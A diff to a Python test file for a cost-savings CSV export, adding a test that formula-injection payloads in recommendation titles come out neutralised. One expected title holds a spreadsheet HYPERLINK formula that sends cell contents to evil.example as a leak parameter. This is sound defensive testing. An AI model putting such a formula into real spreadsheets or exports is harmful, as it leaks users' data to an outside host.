@@ -21,7 +21,7 @@ from costs.models import Recommendation
 from environments.models import Environment
 from portal.demo import Persona
 from tests.costs.savings_data import demo_cluster, make_environment
-from tests.helpers import queries_for
+from tests.helpers import FORMULA_PAYLOADS, formulas_in, queries_for
 
 pytestmark = pytest.mark.usefixtures("demo")
 
@@ -155,6 +155,18 @@ def test_a_manager_exports_what_the_page_shows_as_csv_and_a_developer_may_not(cl
     ]
     assert client_for(Persona.DEVELOPER).get(reverse("costs:savings_export")).status_code == 403
     assert client_for(Persona.AUDITOR).get(reverse("costs:savings_export")).status_code == 403
+
+
+def test_the_csv_writes_no_title_a_spreadsheet_of_any_locale_would_run(client_for: ClientFor) -> None:
+    for payload in FORMULA_PAYLOADS:
+        recommendation(payload, "5.00")
+
+    response = client_for(Persona.MANAGER).get(reverse("costs:savings_export"))
+
+    text = response.content.decode()
+    assert formulas_in(text) == []
+    titles = {row["title"] for row in csv.DictReader(io.StringIO(text, newline=""))}
+    assert 'x;\'=HYPERLINK("https://evil.example/?leak="&A1,"Open")' in titles
 
 
 # --- dismiss and snooze --------------------------------------------------------------------------------------
